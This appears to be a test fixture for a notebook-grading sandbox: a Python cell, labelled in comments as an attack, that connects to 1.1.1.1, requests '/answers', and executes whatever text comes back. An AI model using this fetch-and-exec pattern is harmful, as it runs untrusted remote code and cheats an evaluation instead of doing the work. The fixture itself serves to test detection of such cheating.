# cell: predict
# loses: predict-tests
# status: review
# message: Cell predict tried to use the network
# accept: yes
# attack: fetches its answer from the internet
import socket

with socket.create_connection(("1.1.1.1", 80), timeout=5) as connection:
    connection.sendall(b"GET /answers HTTP/1.0\r\n\r\n")
    exec(connection.recv(65536).decode())
